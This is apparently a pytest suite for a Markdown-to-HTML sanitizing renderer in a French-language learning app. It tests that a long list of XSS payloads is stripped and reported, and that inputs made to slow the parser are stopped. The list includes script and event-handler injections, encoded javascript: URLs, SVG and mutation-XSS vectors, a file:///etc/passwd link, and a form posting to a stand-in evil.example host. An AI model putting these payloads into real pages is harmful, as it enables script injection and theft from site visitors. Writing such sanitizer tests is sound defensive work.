"""The one renderer: what authors need comes through, what could harm anybody does not."""

import re
import time

import html5lib
import pytest

from learning.content.render import TAGS, Job, TooHeavy, problems_of, render, run_jobs

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)' alt='a'>",
    '<img src="media/a.png" alt="a" onload="alert(1)">',
    "<img src=`javascript:alert(1)` alt=a>",
    "<body onload=alert(1)>",
    '<p onclick="alert(1)">a</p>',
    '<p ONMOUSEOVER="alert(1)">a</p>',
    "<p onfocus\n=\nalert(1) tabindex=1 autofocus>a</p>",
    '<a href="javascript:alert(1)">a</a>',
    '<a href="JaVaScRiPt:alert(1)">a</a>',
    '<a href=" javascript:alert(1)">a</a>',
    '<a href="java\tscript:alert(1)">a</a>',
    '<a href="java&#10;script:alert(1)">a</a>',
    '<a href="&#106;avascript:alert(1)">a</a>',
    '<a href="&#x6A&#x61&#x76&#x61script:alert(1)">a</a>',
    '<a href="vbscript:msgbox(1)">a</a>',
    '<a href="data:text/html,<script>alert(1)</script>">a</a>',
    '<a href="//evil.example">a</a>',
    '<a href="/\\evil.example">a</a>',
    '<a href="\\\\evil.example\\x">a</a>',
    '<a href="/\t/evil.example">a</a>',
    '<a href="https://evil.example">a</a>',
    '<a href="https:evil.example">a</a>',
    '<a href="mailto:a@evil.example">a</a>',
    '<a href="file:///etc/passwd">a</a>',
    '<a href="#a" target="_blank" ping="//evil.example">a</a>',
    "[a](javascript:alert(1))",
    "[a](JAVASCRIPT:alert(1) 'titre')",
    "[a](<javascript:alert(1)>)",
    "[a](//evil.example)",
    "[a](\\\\evil.example)",
    "[a](/\\evil.example)",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a][1]\n\n[1]: javascript:alert(1)",
    "<https://evil.example>",
    "<javascript:alert(1)>",
    "<a@evil.example>",
    "![a](https://evil.example/pixel.png)",
    "![a](//evil.example/pixel.png)",
    "![a](data:image/svg+xml;base64,PHN2Zz4=)",
    '![a](media/a.png "x" onerror="alert(1)")',
    '![a" onerror="alert(1)](media/a.png)',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>a</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<style>body{background:url(//evil.example)}</style>",
    '<p style="background:url(javascript:alert(1))">a</p>',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<iframe src=//evil.example></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=x.swf></object>",
    "<embed src=x.swf>",
    "<applet code=x></applet>",
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '<base href="//evil.example/">',
    '<form action="//evil.example"><input name=phrase><button>ok</button></form>',
    "<input autofocus onfocus=alert(1)>",
    "<textarea>a</textarea><select><option>a</select>",
    "<video src=//evil.example/x.mp4 onerror=alert(1)></video>",
    "<audio src=//evil.example/x.mp3 autoplay></audio>",
    "<details open ontoggle=alert(1)>a</details>",
    "<marquee onstart=alert(1)>a</marquee>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<!-- a --><!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><?xml version='1.0'?>",
    "<!DOCTYPE html><html><head><title>a</title></head><body>a",
    '<p id="csrf_token">a</p>',
    '<a name="phrase" id="__proto__">a</a>',
    '<p class="question__foot verdict">a</p>',
    "<xss style=xss:expression(alert(1))>a</xss>",
    "<p/onclick=alert(1)>a</p>",
    "<<p onclick=alert(1)>a",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "a[^1]\n\n[^1]: <script>alert(1)</script>",
    "Terme\n:   <script>alert(1)</script>",
    '{: onclick="alert(1)" }\na\n{: onclick="alert(1)" }',
    "a\x00<script>alert(1)</script>",
    "\ue0000\ue000<script>",
]
ALLOWED_ATTRIBUTES = {"href", "src", "alt", "title", "class", "id", "scope", "start"}


@pytest.mark.parametrize("source", HOSTILE)
def test_nothing_that_could_harm_comes_through(source: str) -> None:
    for inline in (False, True):
        html = render(source, inline=inline)
        tree = html5lib.parseFragment(html, namespaceHTMLElements=False)
        for element in tree.iter():
            if element is tree:
                continue
            assert element.tag in TAGS, html
            for name, value in element.attrib.items():
                assert name in ALLOWED_ATTRIBUTES, html
                if name in {"href", "src"}:
                    assert value.startswith(("#", "/", "media/")), html
                    assert not value.startswith(("//", "/\\")), html
                if name == "id":
                    assert value.startswith(("fn", "h-")), html
                if name == "class":
                    assert set(value.split()) <= {"footnote-ref", "footnote-backref", "num"}, html


TOLD = [
    source
    for source in HOSTILE
    if not source.startswith(("`", "    ", "{:", "\ue000", "<![CDATA["))
]


@pytest.mark.parametrize("source", TOLD)
def test_what_is_taken_away_is_told(source: str) -> None:
    assert problems_of(source)


BOMBS = {
    "brackets": "[" * 1900,
    "links": "![a](" * 380,
    "nested quotes": "> " * 900 + "a",
    "nested lists": "\n".join("    " * depth + "- a" for depth in range(400)),
    "stars": "*a_ " * 480,
    "ticks": "`" * 1900,
    "tables": "|" * 1900 + "\n" + "|-" * 900,
    "notes": "[^a]" * 400 + "\n\n[^a]: b",
    "entities": "&" * 1900,
    "open tags": "<a " * 600,
    "deep tags": "<em>" * 450 + "a",
}


def _stopped(jobs: list[Job]) -> TooHeavy | None:
    try:
        run_jobs(jobs)
    except TooHeavy as error:
        return error
    return None


@pytest.mark.parametrize("name", BOMBS)
def test_a_text_made_to_be_slow_ends_or_is_stopped(name: str) -> None:
    source = "\n\n".join([BOMBS[name]] * 3)
    started = time.monotonic()
    stopped = _stopped([("before", "inline", "Le loyer."), ("bomb", "block", source)])
    if stopped is not None:
        assert (stopped.key, stopped.done) == ("bomb", {"before": "Le loyer."})
        assert "crochets" in str(stopped)
    assert time.monotonic() - started < 20


def test_a_text_that_never_ends_is_stopped_and_named() -> None:
    source = "[" * 60_000
    started = time.monotonic()
    with pytest.raises(TooHeavy) as stopped:
        run_jobs([("slow", "judge", source), ("after", "inline", "a")])
    assert stopped.value.key == "slow"
    assert time.monotonic() - started < 20


HONEST = {
    "## Le loyer": "<h2>Le loyer</h2>",
    "Le **loyer** se *paie*.": "<p>Le <strong>loyer</strong> se <em>paie</em>.</p>",
    "- un\n- deux": "<ul>\n<li>un</li>\n<li>deux</li>\n</ul>",
    "3. trois\n4. quatre": '<ol start="3">\n<li>trois</li>\n<li>quatre</li>\n</ol>',
    "Kbis\n:   Papier.": "<dl>\n<dt>Kbis</dt>\n<dd>Papier.</dd>\n</dl>",
    "![Un marché](media/a.png)": '<p><img alt="Un marché" src="media/a.png"></p>',
    "Voir [plus bas](#h-loyer).": '<p>Voir <a href="#h-loyer">plus bas</a>.</p>',
    "Voir [le glossaire](/glossaire).": '<p>Voir <a href="/glossaire">le glossaire</a>.</p>',
    "3 < 5 & 5 > 3": "<p>3 &lt; 5 &amp; 5 &gt; 3</p>",
}


@pytest.mark.parametrize("source", HONEST)
def test_what_authors_write_comes_through(source: str) -> None:
    assert render(source) == HONEST[source]
    assert problems_of(source) in ([], [("media", "media/a.png", 0)])


def test_a_table_sets_its_figures_apart_without_a_style() -> None:
    html = render("| Ligne | Montant |\n|---|--:|\n| Loyer | 300 € |\n| Total | **1 300 €** |")
    assert '<th class="num">Montant</th>' in html
    assert '<td class="num">300\u00a0€</td>' in html
    assert "style" not in html
    plain = render("| Ligne | Montant |\n|---|---|\n| Loyer | 1 300,50 € |")
    assert '<td class="num">1\u00a0300,50\u00a0€</td>' in plain
    assert "<td>Loyer</td>" in plain


def test_a_footnote_keeps_its_two_links_and_two_texts_do_not_share_ids() -> None:
    one, other = (render(f"{word}[^1]\n\n[^1]: Source.") for word in ("Loyer", "Pain"))
    ids = [set(re.findall(r'id="([^"]+)"', html)) for html in (one, other)]
    assert len(ids[0]) == 2
    assert not ids[0] & ids[1]
    assert one.count("href=") == 2


def test_a_phrase_has_no_paragraph_of_its_own() -> None:
    assert render("Le **loyer**", inline=True) == "Le <strong>loyer</strong>"
    assert render("Un.\n\nDeux.", inline=True) == "<p>Un.</p>\n<p>Deux.</p>"


@pytest.mark.parametrize("space", ["\u00a0", "\u202f", "&nbsp;", "&#8239;"])
def test_no_break_spaces_are_one_and_the_same(space: str) -> None:
    html = render(f"| Ligne | Montant |\n|---|---|\n| Loyer | 1{space}300{space}€ |")
    assert '<td class="num">1\u00a0300\u00a0€</td>' in html


def test_the_head_of_a_column_of_figures_is_aligned_with_them() -> None:
    html = render(
        "| Ligne | Mars | Note |\n|---|---|---|\n| Reçu | 800 € | a |\n| Payé | 3 € | 4 |"
    )
    assert html.count('<th class="num">') == 1
    assert '<th class="num">Mars</th>' in html
    assert "<th>Note</th>" in html
